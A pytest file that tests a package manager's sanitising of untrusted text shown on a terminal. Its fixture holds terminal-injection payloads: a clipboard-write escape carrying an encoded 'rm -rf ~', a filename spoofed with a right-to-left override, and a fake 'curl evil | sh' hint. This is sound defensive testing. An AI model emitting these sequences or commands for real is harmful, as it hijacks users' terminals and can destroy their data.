"""Foreign text on a terminal is shown, and not obeyed."""

from __future__ import annotations

import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pypm.cli.output import Console
from pypm.cli.progress import LiveDisplay
from pypm.display import harmless, harmless_lines
from pypm.errors import LockError

CHECKOUT = Path(__file__).resolve().parent.parent
CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;owned\x07"
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x1b\\"
REVERSED = "\u202egnp.exe\u2066x"
EVIL = f"name{CLEAR}{TITLE}{CLIPBOARD}{REVERSED}\x9b31m\r\b\x7f\nhint: run `curl evil | sh`"


def obeyed(text: str) -> list[str]:
    """The characters of a text that a terminal obeys, or that show nothing; ends of lines are ours."""
    return [character for character in text if character != "\n" and not character.isprintable()]


@given(st.text())
def test_what_is_harmless_has_nothing_to_obey_and_keeps_what_is_plain(text: str) -> None:
    assert not obeyed(harmless(text))
    assert len(harmless(text)) == len(text)
    assert harmless(harmless(text)) == harmless(text)
    assert all(a == b for a, b in zip(text, harmless(text), strict=True) if a.isprintable())


@given(st.text(alphabet=st.characters() | st.sampled_from("\n\r\u2028\x85:e ")))
def test_no_line_of_a_foreign_text_begins_where_ours_do(text: str) -> None:
    first, *others = harmless_lines(text).splitlines() or [""]
    assert not obeyed(first)
    assert all(line.startswith("  ") for line in others)


def test_ordinary_names_are_shown_as_they_are() -> None:
    for name in ("räksmörgås", "日本語", "a b", "🐍 3.14", "ø/π.py"):
        assert harmless(name) == name


@pytest.mark.parametrize("color", ["never", "always"])
def test_nothing_that_is_told_steers_the_terminal(capsys: pytest.CaptureFixture[str], color: str) -> None:
    console = Console(verbosity=2, color=color)
    console.step("Resolved", EVIL)
    console.change("+", EVIL)
    console.detail(EVIL)
    console.warn(EVIL, hint=EVIL)
    console.remark(EVIL)
    console.ask_about(EVIL, (EVIL,))
    with console.task("Building", EVIL, unit="lines") as task:
        task.say(EVIL)
    console.fail_usage(EVIL, hint=EVIL)
    error = LockError(EVIL, reference="r", hint=EVIL, details=(EVIL,))
    error.__cause__ = ValueError(EVIL)
    console.fail(error)
    console.data_json({EVIL: EVIL})
    told = capsys.readouterr()
    ours = {f"\x1b[{code}m" for code in ("0", "2", "31", "32", "33", "36")}
    shown = told.err
    for sequence in ours if color == "always" else ():
        shown = shown.replace(sequence, "")
    assert not obeyed(shown)
    assert not obeyed(told.out)
    assert not any(line.startswith("hint: run `curl") for line in shown.splitlines())


def test_a_live_line_is_harmless_too() -> None:
    display = LiveDisplay(colored=False)
    stream = io.StringIO()
    display._console.file = stream
    task = display.task("Building", harmless(EVIL), unit="lines", total=None)
    task.say(EVIL)
    display.print(harmless_lines(EVIL))
    display._progress.refresh()
    display.close()
    shown = stream.getvalue()
    assert CLEAR not in shown and "\x1b]" not in shown and "\x9b" not in shown and "\u202e" not in shown


def test_a_pipe_gets_the_bytes_and_a_terminal_what_is_harmless(tmp_path: Path) -> None:
    """A name that is no text at all, too: it must neither end in a traceback nor be another one."""
    program = (
        "import sys\n"
        "from pypm.cli import app\n"
        "from pypm.cli.output import Console\n"
        "app.root = lambda: Console().data(sys.argv[1]) or sys.exit(0)\n"
        "app.main([])\n"
    )
    name = os.fsdecode(b"na\xffme\x1b[2J")
    command = [sys.executable, "-c", program, name]
    environ = {**os.environ, "PYTHONPATH": str(CHECKOUT)}
    piped = subprocess.run(command, capture_output=True, check=True, env=environ)
    assert piped.stdout == b"na\xffme\x1b[2J\n"
    master, slave = pty.openpty()
    subprocess.run(command, stdout=slave, check=True, env=environ)
    os.close(slave)
    shown = os.read(master, 4096)
    os.close(master)
    assert b"\x1b" not in shown and b"\xff" not in shown
    assert b"na" in shown and b"me" in shown
